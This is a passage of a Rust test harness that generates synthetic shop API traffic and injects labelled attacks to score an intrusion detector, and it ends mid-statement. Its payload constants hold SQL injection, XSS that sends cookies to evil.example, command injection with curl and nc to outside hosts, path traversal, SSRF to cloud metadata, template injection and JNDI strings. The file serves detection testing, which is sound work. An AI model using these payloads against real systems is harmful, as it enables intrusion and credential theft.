//! The scenario harness: a day or two of realistic traffic for a multi-endpoint API with many
//! callers, attacks of every kind injected at several intensities, replayed through the
//! inventory and the detector, and scored.
//!
//! What `benches/detect.rs` prints (recall per attack and category, false positives per
//! 10,000 benign calls, throughput) and what `tests/detect_scenario.rs` holds to the targets.
//! Generation is deterministic (the sensitive corpus's SplitMix64): a seed is a scenario.
//!
//! **The API.** A shop at 10.0.0.1:8080, documented by [`SPEC`]: a public catalog and search,
//! logins, profiles, orders, comments, webhooks, files, a health check and an admin area.
//! **Benign traffic.** Users on shared addresses (NAT) in sessions that follow the time of day:
//! logins with typos, expired tokens refreshed, their own profile and orders, searches and
//! comments full of quotes, `select`, markup and URLs; anonymous visitors; a partner's hourly
//! catalog sync at five calls a second; health checks; three admins; the service's own calls
//! to the third parties it uses. **Attacks.** Each [`AttackType`] at three intensities: loud
//! (a burst), normal (minutes), slow (spread over ten to twenty hours so no minute looks odd).
//! Each instance has its own attacker (user and address), so a finding belongs to exactly one
//! instance or to benign traffic.

use std::{collections::HashMap, fmt::Write as _};

use base64::Engine as _;

use super::{config::DetectConfig, kind::Kind, Detector};
use crate::{
    conn::Role,
    findings::Finding,
    inventory::{parse_rfc3339, spec::ApiSpec, Inventory, SpecBinding},
    model::{call_time, rfc3339, ApiCall, BodyView, CallStatus, HeaderMap},
    output::Output,
    pipeline::Analyzer,
    redact::{RedactionMode, Redactor},
    sensitive::{corpus::Rng, keyed::HashKey},
};

/// 2026-11-28T00:00:00Z: scenarios start at midnight, so hours of the day are easy to read.
pub const T0: u64 = 1_795_996_800;

/// The shop's spec: every endpoint benign traffic uses, one deprecated operation (a zombie
/// when called) and nothing for `/api/v1/debug/vars` (a shadow endpoint when called).
pub const SPEC: &str = r#"{
  "openapi": "3.0.3",
  "info": { "title": "Shop", "version": "1.0" },
  "paths": {
    "/api/v1/login": { "post": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/health": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/products": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/products/{id}": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/users/{id}": {
      "get": { "responses": { "200": { "description": "ok" } } },
      "put": { "responses": { "200": { "description": "ok" } } }
    },
    "/api/v1/orders": {
      "get": { "responses": { "200": { "description": "ok" } } },
      "post": { "responses": { "201": { "description": "ok" } } }
    },
    "/api/v1/orders/{id}": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/comments": { "post": { "responses": { "201": { "description": "ok" } } } },
    "/api/v1/webhooks": { "post": { "responses": { "201": { "description": "ok" } } } },
    "/api/v1/files": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/admin/users": { "get": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/admin/users/{id}/disable": { "post": { "responses": { "200": { "description": "ok" } } } },
    "/api/v1/legacy/export": { "get": { "deprecated": true, "responses": { "200": { "description": "ok" } } } }
  }
}"#;

const SERVER: &str = "10.0.0.1";
const PORT: u16 = 8080;
const SERVER_PROCESS: &str = "shop-api";

/// How big and long a scenario is.
#[derive(Debug, Clone)]
pub struct ScenarioConfig {
    pub seed: u64,
    pub users: u32,
    pub visitors: u32,
    pub hours: u64,
    /// Instances of every attack type at each intensity (loud, normal, slow).
    pub instances: [u32; 3],
}

impl ScenarioConfig {
    /// What the test holds to the targets: about 300,000 benign calls over two days.
    pub fn standard() -> ScenarioConfig {
        ScenarioConfig {
            seed: 0x5eed_0b5e_47e7,
            users: 1_500,
            visitors: 1_500,
            hours: 48,
            instances: [6, 20, 20],
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Intensity {
    Loud,
    Normal,
    Slow,
}

impl Intensity {
    pub const ALL: [Intensity; 3] = [Intensity::Loud, Intensity::Normal, Intensity::Slow];

    pub fn name(self) -> &'static str {
        match self {
            Intensity::Loud => "loud",
            Intensity::Normal => "normal",
            Intensity::Slow => "slow",
        }
    }
}

/// The attacks the scenario injects, each caught by one detector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackType {
    Bola,
    CredentialStuffing,
    UnauthenticatedAccess,
    AlgNoneToken,
    ExpiredToken,
    MassAssignment,
    FieldExposure,
    Flood,
    HugePage,
    AdminAccess,
    Ssrf,
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
    TemplateInjection,
    Jndi,
    ShadowEndpoint,
    ZombieEndpoint,
    NewThirdParty,
}

impl AttackType {
    pub const ALL: [AttackType; 20] = [
        AttackType::Bola,
        AttackType::CredentialStuffing,
        AttackType::UnauthenticatedAccess,
        AttackType::AlgNoneToken,
        AttackType::ExpiredToken,
        AttackType::MassAssignment,
        AttackType::FieldExposure,
        AttackType::Flood,
        AttackType::HugePage,
        AttackType::AdminAccess,
        AttackType::Ssrf,
        AttackType::SqlInjection,
        AttackType::Xss,
        AttackType::PathTraversal,
        AttackType::CommandInjection,
        AttackType::TemplateInjection,
        AttackType::Jndi,
        AttackType::ShadowEndpoint,
        AttackType::ZombieEndpoint,
        AttackType::NewThirdParty,
    ];

    pub fn name(self) -> &'static str {
        match self {
            AttackType::Bola => "bola walk",
            AttackType::CredentialStuffing => "credential stuffing",
            AttackType::UnauthenticatedAccess => "unauthenticated access",
            AttackType::AlgNoneToken => "alg:none token",
            AttackType::ExpiredToken => "expired token",
            AttackType::MassAssignment => "mass assignment",
            AttackType::FieldExposure => "sensitive field exposure",
            AttackType::Flood => "rate flood",
            AttackType::HugePage => "huge page size",
            AttackType::AdminAccess => "admin endpoint access",
            AttackType::Ssrf => "ssrf",
            AttackType::SqlInjection => "sql injection",
            AttackType::Xss => "xss",
            AttackType::PathTraversal => "path traversal",
            AttackType::CommandInjection => "command injection",
            AttackType::TemplateInjection => "template injection",
            AttackType::Jndi => "jndi lookup",
            AttackType::ShadowEndpoint => "shadow endpoint",
            AttackType::ZombieEndpoint => "zombie endpoint",
            AttackType::NewThirdParty => "new third-party api",
        }
    }

    /// The detector that should report it.
    pub fn kind(self) -> Kind {
        match self {
            AttackType::Bola => Kind::Bola,
            AttackType::CredentialStuffing => Kind::AuthFailureBurst,
            AttackType::UnauthenticatedAccess => Kind::UnauthenticatedAccess,
            AttackType::AlgNoneToken | AttackType::ExpiredToken => Kind::WeakToken,
            AttackType::MassAssignment => Kind::MassAssignment,
            AttackType::FieldExposure => Kind::SensitiveFieldExposure,
            AttackType::Flood => Kind::RateAnomaly,
            AttackType::HugePage => Kind::ExpensiveRequest,
            AttackType::AdminAccess => Kind::FunctionLevelAuthz,
            AttackType::Ssrf => Kind::Ssrf,
            AttackType::SqlInjection => Kind::SqlInjection,
            AttackType::Xss => Kind::Xss,
            AttackType::PathTraversal => Kind::PathTraversal,
            AttackType::CommandInjection => Kind::CommandInjection,
            AttackType::TemplateInjection => Kind::TemplateInjection,
            AttackType::Jndi => Kind::JndiInjection,
            AttackType::ShadowEndpoint => Kind::ShadowEndpoint,
            AttackType::ZombieEndpoint => Kind::ZombieEndpoint,
            AttackType::NewThirdParty => Kind::NewThirdPartyApi,
        }
    }

    /// OWASP API Top 10 (2023) category, for grouping.
    pub fn category(self) -> &'static str {
        self.kind().owasp()
    }
}

/// One injected attack.
#[derive(Debug, Clone)]
pub struct Attack {
    pub attack: AttackType,
    pub intensity: Intensity,
    /// When it ran (seconds).
    pub start: u64,
    pub end: u64,
    /// Who ran it: what the finding's caller must name.
    pub user: Option<String>,
    pub address: Option<String>,
    pub process: Option<String>,
    /// For exposure (an endpoint's fault, whoever calls): the route and field that leaked.
    pub route: Option<String>,
    pub field: Option<String>,
}

/// Who makes a step's call, and with which credentials.
#[derive(Debug, Clone)]
struct Actor {
    address: String,
    user: Option<String>,
    /// `Authorization` header value, or an API key.
    bearer: Option<String>,
    api_key: Option<String>,
    user_agent: &'static str,
    /// A process on the host making calls to others (client side).
    process: Option<&'static str>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Credentials {
    /// The actor's own.
    Own,
    None,
    AlgNone,
    Expired,
}

/// What a response carries, built when the call is.
#[derive(Debug, Clone)]
enum Response {
    Empty,
    Token,
    Product(u32),
    Products(u32),
    User(u32),
    Order(u32),
    Orders(u32),
    AdminUsers(u32),
    /// A body of this size (only its first bytes are kept, as the parser would).
    Huge(u64),
}

#[derive(Debug, Clone)]
struct Step {
    /// Nanoseconds since the epoch.
    at: u64,
    actor: u32,
    credentials: Credentials,
    method: &'static str,
    path: String,
    query: Option<String>,
    body: Option<String>,
    /// A header with an attack in it (`User-Agent`, `X-Api-Version`).
    header: Option<(&'static str, String)>,
    status: u16,
    response: Response,
    /// Sensitive fields the response leaks (bits of [`LEAKED_FIELDS`]).
    leaks: u16,
    latency_ms: f64,
    /// Host of an outgoing call (the actor is a process on this host).
    host: Option<String>,
    attack: Option<u32>,
}

/// A generated scenario: steps in time order, the actors, the attacks.
pub struct Scenario {
    pub config: ScenarioConfig,
    steps: Vec<Step>,
    actors: Vec<Actor>,
    pub attacks: Vec<Attack>,
}

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "shop-android/4.2.1 (Pixel 8; Android 15)",
    "okhttp/4.12.0",
];

/// What users search for: quotes, SQL words, markup, symbols. None is an attack.
const SEARCH_TERMS: &[&str] = &[
    "running shoes",
    "O'Reilly",
    "don't stop believin'",
    "select",
    "union station poster",
    "rock & roll",
    "<b>bold</b> mug",
    "50% off",
    "a=b",
    "C:\\Users",
    "kids' toys",
    "drop-down menu",
    "\"exact phrase\"",
    "tom's and jerry's",
    "1 or 2 pack",
    "sleep mask",
    "cat bed",
    "script writing book",
    "order by price",
    "{{gift}} card",
];

/// What users write in comments. None is an attack.
const COMMENTS: &[&str] = &[
    "Great product, would buy again!",
    "It's OK -- not what I expected, but it works.",
    "Arrived in 2 days; packaging was fine & the box wasn't damaged.",
    "<p>Love it. <b>Five stars</b>.</p>",
    "Use `npm install` then `cat the-manual` lol",
    "The \"premium\" version is 'better' I guess",
    "See https://example.com/review/123 for photos",
    "Price: ${price} seemed high; select the small size",
    "Hello {{name}}! (copied from the template, sorry)",
    "Q&A: does it fit? | yes, it does",
    "1/2 the price of the store; 2x the quality",
    "He said 'hi' and left -- weird delivery guy",
];

const PAYLOADS_SQL: &[&str] = &[
    "' OR '1'='1",
    "1' UNION SELECT username,password FROM users--",
    "x' AND SLEEP(5)--",
    "'; DROP TABLE orders--",
    "1 OR 1=1",
    "admin'--",
];

const PAYLOADS_XSS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "\"><iframe src=javascript:alert(1)>",
];

const PAYLOADS_TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
];

const PAYLOADS_COMMAND: &[&str] = &[
    "invoice.pdf; cat /etc/passwd",
    "x.pdf && whoami",
    "$(curl http://evil.example/x.sh)",
    "a.pdf | nc 203.0.113.9 4444",
];

const PAYLOADS_SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "http://[::1]:8080/admin",
    "http://2130706433/internal",
    "gopher://127.0.0.1:25/_HELO",
];

const PAYLOADS_TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
];

const PAYLOADS_JNDI: &[&str] = &[
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${jndi:dns://x.evil.example}",
];

/// Fields a mass assignment sets (one per instance, so none is used often enough to become
/// normal).
const PRIVILEGED: &[&str] = &[
    "role",
    "isAdmin",
    "is_admin",
    "balance",
    "permissions",
    "plan",
    "credits",
    "is_staff",
    "accessLevel",
    "verified",
    "tier",
    "discount",
    "superuser",
    "scopes",
    "owner_id",
    "tenant_id",
    "emailVerified",
    "account_type",
    "privileges",
    "wallet",
];

/// Fields a response starts leaking, and the endpoints that leak them.
const LEAKED_FIELDS: &[&str] = &[
    "password_hash",
    "ssn",
    "card_number",
    "api_key",
    "secret_token",
    "passport_number",
    "tax_id",
    "private_key",
    "iban",
    "refresh_token",
];

const LEAKING_ENDPOINTS: &[&str] = &["users", "order", "orders", "product", "products", "admin"];

/// Third parties the host's processes call normally.
const THIRD_PARTIES: &[(&str, &str, &str, &str)] = &[
    ("shop-api", "api.stripe.com", "POST", "/v1/charges"),
    ("shop-worker", "api.sendgrid.com", "POST", "/v3/mail/send"),
    (
        "shop-worker",
        "shop-assets.s3.amazonaws.com",
        "PUT",
        "/exports/daily.csv",
    ),
    (
        "shop-api",
        "hooks.slack.com",
        "POST",
        "/services/T000/B000/XXXX",
    ),
];

struct Builder {
    rng: Rng,
    config: ScenarioConfig,
    steps: Vec<Step>,
    actors: Vec<Actor>,
    attacks: Vec<Attack>,
    /// Every user's orders, to pick victims from.
    order_owner: Vec<u32>,
    next_order: u32,
    admins: Vec<u32>,
}

fn jwt(header: &str, payload: &str) -> String {
    let engine = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    format!("{}.{}", engine.encode(header), engine.encode(payload))
}

fn bearer(sub: &str, exp: u64) -> String {
    let token = jwt(
        r#"{"alg":"HS256","typ":"JWT"}"#,
        &format!(r#"{{"sub":"{sub}","exp":{exp}}}"#),
    );
    format!("Bearer {token}.c2lnbmF0dXJl")
}

impl Builder {
    fn actor(&mut self, actor: Actor) -> u32 {
        self.actors.push(actor);
        (self.actors.len() - 1) as u32
    }

    /// A step with the usual defaults; tweak the result.
    fn step(
        &mut self,
        at_s: f64,
        actor: u32,
        method: &'static str,
        path: String,
        status: u16,
    ) -> &mut Step {
        let at = (at_s * 1e9) as u64;
        let latency_ms = 8.0 + (self.rng.below(40_000) as f64) / 1_000.0;
        self.steps.push(Step {
            at,
            actor,
            credentials: Credentials::Own,
            method,
            path,
            query: None,
            body: None,
            header: None,
            status,
            response: Response::Empty,
            leaks: 0,
            latency_ms,
            host: None,
            attack: None,
        });
        let last = self.steps.len() - 1;
        &mut self.steps[last]
    }

    fn end(&self) -> f64 {
        (T0 + self.config.hours * 3_600) as f64
    }

    /// How busy users are at second `t`: quiet at night, busiest in the evening.
    fn activity(t: f64) -> f64 {
        let hour = ((t - T0 as f64) / 3_600.0) % 24.0;
        if (7.0..23.0).contains(&hour) {
            0.25 + 0.75 * ((hour - 7.0) / 16.0 * std::f64::consts::PI).sin()
        } else {
            0.1
        }
    }

    fn session_start(&mut self) -> f64 {
        loop {
            let t = T0 as f64 + self.rng.below(self.config.hours * 3_600) as f64;
            if (self.rng.below(1_000) as f64) < Builder::activity(t) * 1_000.0 {
                return t;
            }
        }
    }

    fn benign(&mut self) {
        let users: Vec<u32> = (0..self.config.users)
            .map(|i| {
                let address = format!("100.64.{}.{}", i / 3 / 250, i / 3 % 250 + 1);
                let ua = *self.rng.pick(USER_AGENTS);
                self.actor(Actor {
                    address,
                    user: Some(format!("u{}", 1_000 + i)),
                    bearer: Some(bearer(&format!("u{}", 1_000 + i), T0 + 400 * 86_400)),
                    api_key: None,
                    user_agent: ua,
                    process: None,
                })
            })
            .collect();
        let mut owned: Vec<Vec<u32>> = Vec::new();
        for (i, _) in users.iter().enumerate() {
            let n = 2 + self.rng.below(12) as u32;
            owned.push((0..n).map(|_| self.new_order(i as u32)).collect());
        }
        for (i, &actor) in users.iter().enumerate() {
            let sessions = (self.config.hours / 24).max(1) * (1 + self.rng.below(3));
            for _ in 0..sessions {
                let start = self.session_start();
                self.user_session(actor, 1_000 + i as u32, &owned[i].clone(), start);
            }
        }
        for i in 0..self.config.visitors {
            let user_agent = *self.rng.pick(USER_AGENTS);
            let visitor = self.actor(Actor {
                address: format!("198.51.{}.{}", i / 250, i % 250 + 1),
                user: None,
                bearer: None,
                api_key: None,
                user_agent,
                process: None,
            });
            let mut t = self.session_start();
            for _ in 0..3 + self.rng.below(15) {
                t += 2.0 + self.rng.below(30) as f64;
                self.browse(visitor, t);
            }
        }
        self.partner();
        self.monitors();
        self.admins();
        self.processes();
    }

    fn new_order(&mut self, owner: u32) -> u32 {
        self.order_owner.push(owner);
        self.next_order += 1;
        self.next_order
    }

    fn browse(&mut self, actor: u32, t: f64) {
        if self.rng.chance(70) {
            let id = 1 + self.rng.below(5_000) as u32;
            let status = if self.rng.chance(2) { 404 } else { 200 };
            let step = self.step(t, actor, "GET", format!("/api/v1/products/{id}"), status);
            step.response = Response::Product(id);
        } else {
            let term = *self.rng.pick(SEARCH_TERMS);
            let limit = *self.rng.pick(&[10, 20, 20, 50, 100]);
            let query = format!("q={}&limit={limit}", encode_query(term));
            let step = self.step(t, actor, "GET", "/api/v1/products".into(), 200);
            step.query = Some(query);
            step.response = Response::Products(limit.min(20));
        }
    }

    fn user_session(&mut self, actor: u32, user_id: u32, orders: &[u32], start: f64) {
        let mut t = start;
        if self.rng.chance(3) {
            // A stale token first: refused, then a fresh login.
            let step = self.step(t, actor, "GET", "/api/v1/orders".into(), 401);
            step.credentials = Credentials::Expired;
            t += 1.0;
        }
        let typos = if self.rng.chance(8) {
            1 + self.rng.below(2)
        } else {
            0
        };
        for attempt in 0..=typos {
            let ok = attempt == typos;
            let password = if ok { "correct horse" } else { "correct hrose" };
            let body = format!(r#"{{"username":"u{user_id}","password":"{password}"}}"#);
            let step = self.step(
                t,
                actor,
                "POST",
                "/api/v1/login".into(),
                if ok { 200 } else { 401 },
            );
            step.credentials = Credentials::None;
            step.body = Some(body);
            step.response = if ok { Response::Token } else { Response::Empty };
            t += 3.0 + self.rng.below(8) as f64;
        }
        let actions = 6 + self.rng.below(25);
        for _ in 0..actions {
            t += 2.0 + self.rng.below(40) as f64;
            if t >= self.end() {
                return;
            }
            let roll = self.rng.below(100);
            match roll {
                0..=29 => self.browse(actor, t),
                30..=41 => {
                    let id = *self.rng.pick(orders);
                    let step = self.step(t, actor, "GET", format!("/api/v1/orders/{id}"), 200);
                    step.response = Response::Order(id);
                }
                42..=51 => {
                    let page = 1 + self.rng.below(3);
                    let limit = *self.rng.pick(&[10, 20, 50]);
                    let step = self.step(t, actor, "GET", "/api/v1/orders".into(), 200);
                    step.query = Some(format!("limit={limit}&page={page}"));
                    step.response = Response::Orders(orders.len().min(limit as usize) as u32);
                }
                52..=61 => {
                    let step = self.step(t, actor, "GET", format!("/api/v1/users/{user_id}"), 200);
                    step.response = Response::User(user_id);
                }
                62..=66 => {
                    let mut body = format!(
                        r#"{{"name":"User {user_id}","email":"u{user_id}@example.com","phone":"+1 555 01{:02}""#,
                        user_id % 100
                    );
                    if self.rng.chance(30) {
                        body.push_str(r#","address":{"street":"1 Main St","city":"Springfield"}"#);
                    }
                    if self.rng.chance(15) {
                        body.push_str(r#","preferences":{"newsletter":true,"language":"en"}"#);
                    }
                    body.push('}');
                    let step = self.step(t, actor, "PUT", format!("/api/v1/users/{user_id}"), 200);
                    step.body = Some(body);
                    step.response = Response::User(user_id);
                }
                67..=73 => {
                    let sku = self.rng.below(5_000);
                    let mut body = format!(
                        r#"{{"items":[{{"sku":"SKU-{sku}","qty":{}}}]"#,
                        1 + self.rng.below(3)
                    );
                    if self.rng.chance(30) {
                        body.push_str(r#","note":"Leave it by the door; don't ring""#);
                    }
                    if self.rng.chance(10) {
                        body.push_str(r#","coupon":"WINTER-10""#);
                    }
                    body.push('}');
                    let order = self.new_order(user_id - 1_000);
                    let step = self.step(t, actor, "POST", "/api/v1/orders".into(), 201);
                    step.body = Some(body);
                    step.response = Response::Order(order);
                    // The shop charges the card with its payment provider.
                    self.outgoing(t + 0.2, 0);
                }
                74..=82 => {
                    let text = *self.rng.pick(COMMENTS);
                    let product = 1 + self.rng.below(5_000);
                    let body = format!(
                        r#"{{"product_id":{product},"text":{}}}"#,
                        serde_json::Value::from(text)
                    );
                    let step = self.step(t, actor, "POST", "/api/v1/comments".into(), 201);
                    step.body = Some(body);
                }
                83..=86 => {
                    let body = format!(
                        r#"{{"url":"https://hooks.example.com/u{user_id}/orders","events":["order.created"]}}"#
                    );
                    let step = self.step(t, actor, "POST", "/api/v1/webhooks".into(), 201);
                    step.body = Some(body);
                }
                _ => {
                    let month = 1 + self.rng.below(12);
                    let step = self.step(t, actor, "GET", "/api/v1/files".into(), 200);
                    step.query = Some(format!("name=invoice-2026-{month:02}.pdf"));
                }
            }
        }
    }

    /// A partner syncs the catalog every hour, five products a second, with an API key.
    fn partner(&mut self) {
        let partner = self.actor(Actor {
            address: "192.0.2.10".into(),
            user: None,
            bearer: None,
            api_key: Some("pk_live_7d1f0c2a9b8e4f3a".into()),
            user_agent: "partner-sync/2.3",
            process: None,
        });
        for hour in 0..self.config.hours {
            let start = (T0 + hour * 3_600 + 300) as f64;
            for id in 1..=1_200u32 {
                let step = self.step(
                    start + f64::from(id) / 5.0,
                    partner,
                    "GET",
                    format!("/api/v1/products/{id}"),
                    200,
                );
                step.response = Response::Product(id);
            }
        }
    }

    fn monitors(&mut self) {
        for i in 0..2 {
            let monitor = self.actor(Actor {
                address: format!("10.0.9.{}", i + 1),
                user: None,
                bearer: None,
                api_key: None,
                user_agent: "kube-probe/1.31",
                process: None,
            });
            let mut t = T0 as f64 + f64::from(i) * 7.0;
            while t < self.end() {
                self.step(t, monitor, "GET", "/api/v1/health".into(), 200);
                t += 30.0;
            }
        }
    }

    /// Three admins keep the admin list open while they work, and now and then disable a user.
    fn admins(&mut self) {
        for i in 0..3u64 {
            let admin = self.actor(Actor {
                address: format!("10.0.5.{}", i + 1),
                user: Some(format!("admin{i}")),
                bearer: Some(bearer(&format!("admin{i}"), T0 + 400 * 86_400)),
                api_key: None,
                user_agent: USER_AGENTS[0],
                process: None,
            });
            self.admins.push(admin);
            for day in 0..self.config.hours.div_ceil(24) {
                // A first shift at midnight on day one, so the admin area is learnt early.
                let shift_start = if day == 0 {
                    600 + i * 300
                } else {
                    day * 86_400 + 9 * 3_600
                };
                let mut t = (T0 + shift_start) as f64;
                let shift_end = t + 4.0 * 3_600.0;
                let mut first = true;
                while t < shift_end.min(self.end()) {
                    let step = self.step(t, admin, "GET", "/api/v1/admin/users".into(), 200);
                    step.query = Some("limit=50".into());
                    step.response = Response::AdminUsers(50);
                    if std::mem::take(&mut first) || self.rng.chance(3) {
                        let victim = 1_000 + self.rng.below(u64::from(self.config.users)) as u32;
                        let step = self.step(
                            t + 5.0,
                            admin,
                            "POST",
                            format!("/api/v1/admin/users/{victim}/disable"),
                            200,
                        );
                        step.body = Some(r#"{"reason":"abuse report"}"#.into());
                    }
                    t += 60.0 + self.rng.below(120) as f64;
                }
            }
        }
    }

    /// The host's own processes calling the third parties they use.
    fn processes(&mut self) {
        // Each dependency once in the first minutes (the agent learns them), then at random.
        for which in 0..THIRD_PARTIES.len() {
            self.outgoing((T0 + 60 + 10 * which as u64) as f64, which);
        }
        let mut t = T0 as f64 + 300.0;
        while t < self.end() {
            let which = self.rng.below(THIRD_PARTIES.len() as u64) as usize;
            self.outgoing(t, which);
            t += 120.0 + self.rng.below(240) as f64;
        }
    }

    fn outgoing(&mut self, t: f64, which: usize) {
        let (process, host, method, path) = THIRD_PARTIES[which];
        let actor = self.process_actor(process);
        let step = self.step(t, actor, method, path.to_string(), 200);
        step.host = Some(host.to_string());
        step.body = Some(r#"{"ok":true}"#.into());
    }

    fn process_actor(&mut self, process: &'static str) -> u32 {
        if let Some(i) = self.actors.iter().position(|a| a.process == Some(process)) {
            return i as u32;
        }
        self.actor(Actor {
            address: SERVER.into(),
            user: None,
            bearer: None,
            api_key: None,
            user_agent: "shop-api/1.8 (+reqwest)",
            process: Some(process),
        })
    }

    /// An attacker of its own: a user with a token, on an address no one else uses.
    fn attacker(&mut self, index: usize) -> u32 {
        let user = format!("mallory{index}");
        let user_agent = *self.rng.pick(USER_AGENTS);
        self.actor(Actor {
            address: format!("203.0.{}.{}", 113 + index / 250, index % 250 + 1),
            user: Some(user.clone()),
            bearer: Some(bearer(&user, T0 + 400 * 86_400)),
            api_key: None,
            user_agent,
            process: None,
        })
    }

    /// `count` times spread over the attack: a burst for loud, minutes for normal, ten to
    /// twenty hours for slow.
    fn times(&mut self, intensity: Intensity, count: u32, start: f64) -> Vec<f64> {
        let span = match intensity {
            Intensity::Loud => f64::from(count) * 0.05,
            Intensity::Normal => f64::from(count) * 0.7,
            Intensity::Slow => (10.0 + self.rng.below(10) as f64) * 3_600.0,
        };
        let gap = span / f64::from(count.max(1));
        (0..count)
            .map(|i| {
                start + gap * f64::from(i) + (self.rng.below(1_000) as f64 / 1_000.0) * gap * 0.5
            })
            .collect()
    }

    fn attacks(&mut self) {
        let mut index = 0;
        for attack in AttackType::ALL {
            for (slot, intensity) in Intensity::ALL.into_iter().enumerate() {
                for instance in 0..self.config.instances[slot] {
                    self.attack(attack, intensity, instance as usize, index);
                    index += 1;
                }
            }
        }
        self.spread_exposures();
    }

    /// An exposure is the endpoint's: every response it gives during the incident carries
    /// the field, whoever asked, attackers included (the calls made for it guarantee there
    /// are some). Calls of other attacks keep their own label.
    fn spread_exposures(&mut self) {
        for (number, attack) in self.attacks.iter().enumerate() {
            if attack.attack != AttackType::FieldExposure {
                continue;
            }
            let (Some(route), Some(field)) = (&attack.route, &attack.field) else {
                continue;
            };
            let bit = leak_bit(field);
            let window = match attack.intensity {
                Intensity::Loud => 60,
                Intensity::Normal => 900,
                Intensity::Slow => 6 * 3_600,
            };
            let (start, end) = (attack.start, attack.end.max(attack.start + window));
            for step in &mut self.steps {
                let at = step.at / 1_000_000_000;
                if (start..=end).contains(&at)
                    && step.status == 200
                    && step.method == "GET"
                    && route_matches(route, &step.path)
                {
                    step.leaks |= bit;
                    step.attack.get_or_insert(number as u32);
                }
            }
        }
    }

    fn attack(&mut self, attack: AttackType, intensity: Intensity, instance: usize, index: usize) {
        let hours = self.config.hours as f64;
        let latest = match intensity {
            Intensity::Slow => hours - 21.0,
            _ => hours - 2.0,
        };
        // After the learning hour and the day-one admin shift, so the endpoints are learnt.
        let start = T0 as f64
            + (5.0 + (self.rng.below(1_000) as f64 / 1_000.0) * (latest - 5.0).max(1.0)) * 3_600.0;
        let attacker = self.attacker(index);
        let number = self.attacks.len() as u32;
        let first_step = self.steps.len();
        let counts = |loud: u32, normal: u32, slow: u32| match intensity {
            Intensity::Loud => loud,
            Intensity::Normal => normal,
            Intensity::Slow => slow,
        };
        let mut record = Attack {
            attack,
            intensity,
            start: start as u64,
            end: start as u64,
            user: self.actors[attacker as usize].user.clone(),
            address: Some(self.actors[attacker as usize].address.clone()),
            process: None,
            route: None,
            field: None,
        };
        match attack {
            AttackType::Bola => {
                let n = counts(400, 120, 100);
                let times = self.times(intensity, n, start);
                let base = 1 + self
                    .rng
                    .below(u64::from(self.next_order.saturating_sub(500)).max(1))
                    as u32;
                for (i, t) in times.into_iter().enumerate() {
                    // Slow walks pick orders at random; the others walk them in order.
                    let id = if intensity == Intensity::Slow {
                        1 + self.rng.below(u64::from(self.next_order)) as u32
                    } else {
                        base + i as u32
                    };
                    let status = if self.rng.chance(60) { 403 } else { 200 };
                    let step =
                        self.step(t, attacker, "GET", format!("/api/v1/orders/{id}"), status);
                    step.response = if status == 200 {
                        Response::Order(id)
                    } else {
                        Response::Empty
                    };
                }
            }
            AttackType::CredentialStuffing => {
                let n = counts(300, 60, 120);
                let times = self.times(intensity, n, start);
                for t in times {
                    let victim = self.rng.below(100_000);
                    let body = format!(
                        r#"{{"username":"person{victim}@mail.example","password":"Summer{}!"}}"#,
                        self.rng.below(10_000)
                    );
                    let step = self.step(t, attacker, "POST", "/api/v1/login".into(), 401);
                    step.credentials = Credentials::None;
                    step.body = Some(body);
                }
            }
            AttackType::UnauthenticatedAccess => {
                let times = self.times(intensity, counts(20, 5, 5), start);
                for t in times {
                    let id = 1_000 + self.rng.below(u64::from(self.config.users)) as u32;
                    let step = self.step(t, attacker, "GET", format!("/api/v1/users/{id}"), 200);
                    step.credentials = Credentials::None;
                    step.response = Response::User(id);
                }
            }
            AttackType::AlgNoneToken | AttackType::ExpiredToken => {
                let times = self.times(intensity, counts(20, 5, 3), start);
                for t in times {
                    let step = self.step(t, attacker, "GET", "/api/v1/orders".into(), 200);
                    step.query = Some("limit=20".into());
                    step.credentials = if attack == AttackType::AlgNoneToken {
                        Credentials::AlgNone
                    } else {
                        Credentials::Expired
                    };
                    step.response = Response::Orders(3);
                }
            }
            AttackType::MassAssignment => {
                let field = PRIVILEGED[(instance + intensity as usize * 7) % PRIVILEGED.len()];
                let times = self.times(intensity, counts(10, 3, 2), start);
                let id = 1_000 + self.rng.below(u64::from(self.config.users)) as u32;
                for t in times {
                    let body =
                        format!(r#"{{"name":"Mallory","email":"m@example.com","{field}":true}}"#);
                    let step = self.step(t, attacker, "PUT", format!("/api/v1/users/{id}"), 200);
                    step.body = Some(body);
                    step.response = Response::User(id);
                }
            }
            AttackType::FieldExposure => {
                // The endpoint's fault: every caller in the window gets the field.
                let combo = instance + intensity as usize * 20;
                let field = LEAKED_FIELDS[combo % LEAKED_FIELDS.len()];
                let endpoint =
